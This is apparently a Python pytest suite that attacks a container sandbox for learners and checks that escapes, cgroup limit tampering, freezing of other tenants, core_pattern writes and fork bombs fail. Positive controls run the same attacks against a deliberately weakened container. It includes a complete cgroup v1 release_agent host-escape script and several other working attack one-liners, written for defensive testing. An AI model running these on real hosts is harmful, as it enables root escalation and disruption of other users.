"""A hostile learner attacks the host and the other learners from the chat, and every attack fails.

Each attack runs as a learner through the lab, and the verdict is read on the host (a marker file only an
escaped process could create, cgroup values, what ps shows). Each one also runs against a deliberately
weakened container made by the test (the lab's old recipe) on the host's engine (`control_engine`), where
it must succeed: that positive control proves the probe can see an escape, so a passing test means
something. tests/deploy/ runs these same tests against the docker-compose deployment's lab.
"""

from __future__ import annotations

import asyncio
import secrets
from pathlib import Path

import docker
import pytest
from docker.models.networks import Network
from host_view import Weakened, cgroup_file, host_marker, processes, wait_for
from lab_support import PREFIX, lab_settings, remove_everything

from sandbox.host_side import host_side_for
from sandbox.mirror import NOT_A_ROUTER
from sandbox.names import MIRROR_CONTAINER
from sandbox.service import SandboxService

MODULE_LOOP = pytest.mark.asyncio(loop_scope="module")
ATTACKER, BYSTANDER = 31, 32

# The classic cgroup v1 escape: a new cgroup hierarchy, notify_on_release, a release_agent under the
# container's overlay upperdir. The kernel runs the release agent as root on the host.
RELEASE_AGENT = r"""
marker=$1
d=$(mktemp -d) || exit 1
mount -t cgroup -o memory cgroup "$d" || { echo "mount refused"; exit 1; }
old=$(cat "$d/release_agent")
upper=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n1)
printf '#!/bin/sh\ntouch %s\n' "$marker" > /escape.sh && chmod +x /escape.sh || exit 1
mkdir "$d/x$$" && echo 1 > "$d/x$$/notify_on_release" || exit 1
echo "$upper/escape.sh" > "$d/release_agent" || exit 1
sh -c "echo \$\$ > $d/x$$/cgroup.procs"
sleep 1
echo "$old" > "$d/release_agent"; rmdir "$d/x$$"; umount "$d"
echo attempted
"""


async def _workspace_id(lab, engine, learner: int) -> str:
    await lab.run_command(learner_id=learner, command="true")
    return engine.containers.get(f"{PREFIX}-ws-{learner}").id


@MODULE_LOOP
async def test_the_release_agent_escape_fails_as_the_learner_in_a_user_namespace_and_in_a_nested_container(
        lab, engine, control_engine):
    await lab.write_files(learner_id=ATTACKER, files={"escape.sh": RELEASE_AGENT.encode()})
    for how in ("sh escape.sh {m}",
                "unshare -Urm sh escape.sh {m}",
                "docker run --rm --cap-add SYS_ADMIN --security-opt apparmor=unconfined -v $PWD:/x busybox "
                "sh /x/escape.sh {m}"):
        marker = host_marker()
        attempt = await lab.run_command(learner_id=ATTACKER, command=how.format(m=marker))
        assert "attempted" not in attempt.output, (how, attempt.output)
        await asyncio.sleep(1)
        assert not marker.exists(), f"escaped to the host with: {how}"

    # Positive control: the same script in the old recipe really runs a program as root on the host.
    marker = host_marker()
    with Weakened(control_engine) as weak:
        code, output = weak.sh(RELEASE_AGENT, str(marker))
        assert code == 0 and "attempted" in output, output
        assert wait_for(marker.exists), "the probe cannot see an escape: the control failed"
    marker.unlink()


@MODULE_LOOP
async def test_a_learner_cannot_raise_their_own_limits(lab, engine, control_engine):
    workspace = await _workspace_id(lab, engine, ATTACKER)
    limits = {(c, n): cgroup_file(engine, workspace, c, n)
              for c, n in (("memory", "memory.limit_in_bytes"), ("pids", "pids.max"), ("cpu", "cpu.cfs_quota_us"))}
    before = {key: path.read_text() for key, path in limits.items()}
    attack = ("for f in memory/memory.limit_in_bytes pids/pids.max cpu/cpu.cfs_quota_us; do "
              "echo 999999999 > /sys/fs/cgroup/$f && echo changed $f; "
              "unshare -Urm sh -c \"echo 999999999 > /sys/fs/cgroup/$f\" 2>/dev/null && echo changed $f; done; "
              "echo 'a *:* rwm' > /sys/fs/cgroup/devices/devices.allow && echo changed devices; true")
    result = await lab.run_command(learner_id=ATTACKER, command=attack)
    assert "changed" not in result.output, result.output
    assert {key: path.read_text() for key, path in limits.items()} == before

    # Positive control: with the host's cgroup tree mounted read-write, a container lifts its own limit.
    with Weakened(control_engine) as weak:
        own = cgroup_file(control_engine, weak.id, "memory", "memory.limit_in_bytes")
        # The host's tree is mounted at the same place; memory+swap first, or the kernel refuses.
        code, output = weak.sh(f"echo 3221225472 > {own.parent}/memory.memsw.limit_in_bytes && "
                               f"echo 3221225472 > {own}")
        assert code == 0, output
        assert own.read_text().strip() == "3221225472"


@MODULE_LOOP
async def test_a_learner_cannot_freeze_another_learner(lab, engine, control_engine):
    victim = await _workspace_id(lab, engine, BYSTANDER)
    state = cgroup_file(engine, victim, "freezer", "freezer.state")
    host_path = state.parent.as_posix().removeprefix("/sys/fs/cgroup/freezer")
    attack = (f"echo FROZEN > /sys/fs/cgroup/freezer{host_path}/freezer.state && echo frozen; "
              f"ls /sys/fs/cgroup/freezer{host_path} >/dev/null 2>&1 && echo seen; "
              "echo FROZEN > /sys/fs/cgroup/freezer/freezer.state && echo frozen-self; true")
    result = await lab.run_command(learner_id=ATTACKER, command=attack)
    assert "frozen" not in result.output and "seen" not in result.output, result.output
    assert state.read_text().strip() == "THAWED"
    answer = await asyncio.wait_for(lab.run_command(learner_id=BYSTANDER, command="echo toujours là"), 10)
    assert answer.output.strip() == "toujours là"

    # Positive control: through the host's cgroup tree, a weakened container freezes another one.
    target = control_engine.containers.run("busybox", ["sleep", "600"], detach=True,
                                           labels={"org.tutorbot.test": "victim"})
    try:
        with Weakened(control_engine) as weak:
            target_state = cgroup_file(control_engine, target.id, "freezer", "freezer.state")
            code, output = weak.sh(f"echo FROZEN > {target_state}")
            assert code == 0, output
            assert wait_for(lambda: target_state.read_text().strip() == "FROZEN")
            weak.sh(f"echo THAWED > {target_state}")
    finally:
        target.remove(force=True)


PROC_ATTACK = ("cat /proc/sys/kernel/core_pattern > /tmp/cp && cat /tmp/cp > /proc/sys/kernel/core_pattern "
               "&& echo wrote-core-pattern; dmesg >/dev/null 2>&1 && echo read-kernel-log; "
               "head -c1 /dev/kmsg >/dev/null 2>&1 && echo read-kmsg; true")


@MODULE_LOOP
async def test_proc_gives_no_way_to_the_host_and_no_kernel_log(lab, engine, control_engine):
    before = open("/proc/sys/kernel/core_pattern").read()
    result = await lab.run_command(learner_id=ATTACKER, command=PROC_ATTACK)
    assert "wrote" not in result.output and "read-" not in result.output, result.output
    assert open("/proc/sys/kernel/core_pattern").read() == before

    # Positive control: root in the old recipe writes core_pattern (the same value) and reads the kernel log.
    with Weakened(control_engine) as weak:
        _, output = weak.sh(PROC_ATTACK)
        assert "wrote-core-pattern" in output and "read-kernel-log" in output, output
    assert open("/proc/sys/kernel/core_pattern").read() == before


@MODULE_LOOP
async def test_no_process_of_a_workspace_runs_as_root(lab, engine, control_engine):
    workspace = await _workspace_id(lab, engine, ATTACKER)
    await lab.run_command(learner_id=ATTACKER, command="docker run -d busybox sleep 60 >/dev/null")
    owners = {uid for uid, _ in processes(engine, workspace)}
    assert "0" not in owners and "root" not in owners, processes(engine, workspace)
    found = await lab.run_command(learner_id=ATTACKER, command="find / -xdev -perm /6000 -type f 2>/dev/null; id -u")
    assert found.output.split() == ["1001"], "no setuid binary, and the learner is uid 1001"

    # Positive control: the probe sees a root process where there is one.
    with Weakened(control_engine) as weak:
        assert "0" in {uid for uid, _ in processes(control_engine, weak.id)}


@MODULE_LOOP
async def test_a_fork_bomb_really_forks_is_contained_and_leaves_nothing_behind(lab, engine):
    workspace = await _workspace_id(lab, engine, ATTACKER)
    events = cgroup_file(engine, workspace, "pids", "pids.events")
    current = cgroup_file(engine, workspace, "pids", "pids.current")
    refused_before = int(events.read_text().split()[1])
    bomb = await lab.run_command(learner_id=ATTACKER, command="b(){ b|b& };b; sleep 3")
    assert "Syntax error" not in bomb.output and "Bad function name" not in bomb.output, bomb.output
    assert int(events.read_text().split()[1]) > refused_before, "the bomb forked up to the pids limit"
    assert wait_for(lambda: int(current.read_text()) < 60, 10), current.read_text()
    assert (await lab.run_command(learner_id=ATTACKER, command="echo encore là")).output.strip() == "encore là"


LINGER = ("setsid sh -c 'while :; do :; done' >/dev/null 2>&1 & nohup sleep 1000 >/dev/null 2>&1 & "
          "docker run --name premier-plan busybox sleep 1000 >/dev/null 2>&1 & "
          "docker run -d --name detache busybox sleep 1000 >/dev/null; sleep 2; echo lance")


@MODULE_LOOP
async def test_nothing_a_command_starts_outlives_it_except_detached_containers(lab, engine):
    workspace = await _workspace_id(lab, engine, BYSTANDER)
    result = await lab.run_command(learner_id=BYSTANDER, command=LINGER)
    assert "lance" in result.output and result.duration_s < 6
    assert not [p for p in processes(engine, workspace) if p[0] in ("1001", "learner")], processes(engine, workspace)
    running = await lab.run_command(learner_id=BYSTANDER, command="docker ps --format '{{.Names}}'")
    assert running.output.split() == ["detache"], running.output

    # Positive control: the same command run without the lab's wrapper leaves the learner's processes behind.
    await lab.run_command(learner_id=BYSTANDER, command="docker rm -f premier-plan detache >/dev/null")
    exec_id = engine.api.exec_create(workspace, ["sh", "-c", LINGER], user="learner", workdir="/workspace")
    engine.api.exec_start(exec_id["Id"], detach=True)
    assert wait_for(lambda: len([p for p in processes(engine, workspace) if p[0] in ("1001", "learner")]) >= 2, 10)
    await lab.run_command(learner_id=BYSTANDER, command="docker rm -f premier-plan detache >/dev/null; true")
    assert not [p for p in processes(engine, workspace) if p[0] in ("1001", "learner")]


FILL = "i=0; while [ $i -lt 15 ] && head -c 20m /dev/zero > f$i; do i=$((i+1)); done; echo ecrit $i"
FAKE_DU = "mkdir -p /tmp/bin && printf '#!/bin/sh\\necho 0\\n' > /tmp/bin/du && chmod +x /tmp/bin/du && export PATH=/tmp/bin:$PATH; "


@MODULE_LOOP
async def test_the_disk_quota_is_enforced_by_the_kernel_and_prune_frees_it(engine, control_engine):
    settings = lab_settings(f"{PREFIX}k", warm_pool_size=0, disk_limit="200m", command_timeout=30)
    small = SandboxService(settings)
    await small.start()
    learner = 33
    try:
        fill = await small.run_command(learner_id=learner, command=FAKE_DU + FILL)
        assert fill.disk_full, fill.output
        assert int(fill.output.split("ecrit")[-1].split()[0]) < 10, "300 MB never fit in 200 MB"
        workspace = engine.containers.get(f"{settings.name_prefix}-ws-{learner}")
        disks, _ = host_side_for(settings)
        key = workspace.labels["org.tutorbot.key"]
        used = disks.usage(key)
        assert used.used <= settings.disk_limit_bytes and used.size - used.used < used.size // 10
        if hasattr(disks, "image"):  # a local loop disk: the image file itself stays within the limit
            assert disks.image(key).stat().st_blocks * 512 <= 1.05 * settings.disk_limit_bytes

        still = await small.run_command(learner_id=learner, command="echo encore")
        assert still.output.startswith("encore"), "a full disk refuses writes, not commands"
        freed = await small.run_command(learner_id=learner, command="rm -f f* && docker system prune -af >/dev/null; df -m . | tail -1")
        assert not freed.disk_full, freed.output
        after = disks.usage(key)
        assert after.size - after.used > after.size // 2
    finally:
        await small.close()
        assert remove_everything(engine, settings) == []

    # Positive control: the same fill in a container on a plain volume (no quota) goes past 200 MB.
    volume = control_engine.volumes.create(labels={"org.tutorbot.test": "no-quota"})
    try:
        control_engine.containers.run("busybox", ["sh", "-c", FILL], volumes={volume.name: {"bind": "/d"}}, working_dir="/d",
                              remove=True)
        used = sum(p.stat().st_size for p in Path(volume.attrs["Mountpoint"]).rglob("*") if p.is_file())
        assert used > settings.disk_limit_bytes
    finally:
        volume.remove(force=True)


@MODULE_LOOP
async def test_the_mirror_is_not_a_router_and_is_reached_only_on_its_registry_port(lab, engine, control_engine):
    mirror = engine.containers.get(MIRROR_CONTAINER)
    assert mirror.exec_run(["cat", "/proc/sys/net/ipv4/ip_forward"]).output.strip() == b"0"
    workspace = engine.containers.get(await _workspace_id(lab, engine, ATTACKER))
    network = f"{PREFIX}-net-{workspace.labels['org.tutorbot.key']}"
    mirror.reload()
    mirror_ip = mirror.attrs["NetworkSettings"]["Networks"][network]["IPAddress"]
    probe = await lab.run_command(
        learner_id=ATTACKER,
        command=f"ip route add 10.0.0.0/8 via {mirror_ip} 2>/dev/null && echo routed; "
                f"curl -s -m 3 -o /dev/null -w '%{{http_code}} registre\\n' http://{mirror_ip}:5000/v2/; "
                f"curl -s -m 2 -o /dev/null http://{mirror_ip}:80/ && echo port-80; true")
    assert "routed" not in probe.output and "port-80" not in probe.output, probe.output
    assert "200 registre" in probe.output, probe.output

    # Positive control: two networks joined by a container; with forwarding on (the mirror's old state)
    # a client routes through it to a server on the other network, with the mirror's sysctls it cannot.
    assert _route_through(control_engine, {"net.ipv4.ip_forward": "1"}) is True
    assert _route_through(control_engine, NOT_A_ROUTER) is False


def _route_through(engine, sysctls: dict[str, str]) -> bool:
    token = secrets.token_hex(3)
    made = []
    try:
        nets = [engine.networks.create(f"tutorbot-routetest-{token}-{i}", labels={"org.tutorbot.test": "route"})
                for i in (1, 2)]
        made += nets
        router = engine.containers.run("busybox", ["sleep", "60"], detach=True, network=nets[0].name,
                                       sysctls=sysctls, labels={"org.tutorbot.test": "route"})
        made.append(router)
        nets[1].connect(router)
        server = engine.containers.run("busybox", ["sleep", "60"], detach=True, network=nets[1].name,
                                       cap_add=["NET_ADMIN"], labels={"org.tutorbot.test": "route"})
        made.append(server)
        for thing in (router, server):
            thing.reload()
        router_ips = [router.attrs["NetworkSettings"]["Networks"][n.name]["IPAddress"] for n in nets]
        subnets = [n.attrs["IPAM"]["Config"][0]["Subnet"] for n in (engine.networks.get(n.id) for n in nets)]
        server_ip = server.attrs["NetworkSettings"]["Networks"][nets[1].name]["IPAddress"]
        server.exec_run(["ip", "route", "add", subnets[0], "via", router_ips[1]])
        client = engine.containers.run(
            "busybox", ["sh", "-c", f"ip route add {subnets[1]} via {router_ips[0]} && "
                                    f"ping -c 2 -W 2 {server_ip} >/dev/null && echo joint"],
            detach=True, network=nets[0].name, cap_add=["NET_ADMIN"], labels={"org.tutorbot.test": "route"})
        made.append(client)
        client.wait(timeout=30)
        return b"joint" in client.logs()
    finally:
        for thing in reversed(made):
            try:
                thing.remove(**({} if isinstance(thing, Network) else {"force": True}))
            except docker.errors.APIError:
                pass  # already gone


@MODULE_LOOP
async def test_every_process_of_a_workspace_runs_under_the_labs_seccomp_filter(lab, engine, control_engine):
    status = await lab.run_command(
        learner_id=ATTACKER,
        command="grep Seccomp: /proc/self/status; docker run --rm busybox grep Seccomp: /proc/self/status")
    assert status.output.split() == ["Seccomp:", "2", "Seccomp:", "2"], status.output

    # Positive control: the probe reads 0 where no filter is set.
    with Weakened(control_engine) as weak:
        _, output = weak.sh("grep Seccomp: /proc/self/status")
        assert output.split() == ["Seccomp:", "0"]
